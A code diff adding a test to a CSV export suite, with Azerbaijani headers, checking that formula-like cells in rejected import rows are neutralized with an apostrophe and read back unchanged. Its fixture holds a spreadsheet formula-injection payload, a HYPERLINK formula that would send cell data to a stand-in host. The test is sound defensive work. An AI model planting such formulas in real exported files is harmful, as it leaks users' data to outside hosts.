@@ -32,4 +32,23 @@ describe('rejectedRowsCsv', () => {
       ['"Quoted" name', '', '2016', '7', 'Növ: boşdur'],
     ]);
   });
+
+  it('neutralizes cells a spreadsheet would run, and the import reads them back as they were', async () => {
+    const hostile = ['=HYPERLINK("http://x.example/?"&A1,"Open")', '+994 12 562 37 02', '@SUM(1)'];
+    const bytes = rejectedRowsCsv({
+      headers: ['=Ad', 'Telefon', 'Qeyd'],
+      rows: [{ rowNumber: 2, cells: hostile, reason: '-Növ: boşdur' }],
+      rowHeader: 'Sətir',
+      reasonHeader: 'Səbəb',
+      delimiter: ',',
+    });
+    const text = new TextDecoder().decode(bytes);
+    // What Excel would see: every such cell starts with an apostrophe, none with = + - @.
+    const fields = text.split(/[,\r\n]+/).map((field) => field.replace(/^"/, ''));
+    expect(fields.filter((field) => /^[=+\-@]/.test(field))).toEqual([]);
+    expect(text).toContain(`"'=HYPERLINK(""http://x.example/?""&A1`);
+    const file = await readImportFile('rejected.csv', bytes);
+    expect(file.tables[0]?.headers).toEqual(['=Ad', 'Telefon', 'Qeyd', 'Sətir', 'Səbəb']);
+    expect(file.tables[0]?.rows[0]?.cells).toEqual([...hostile, '2', '-Növ: boşdur']);
+  });
 });
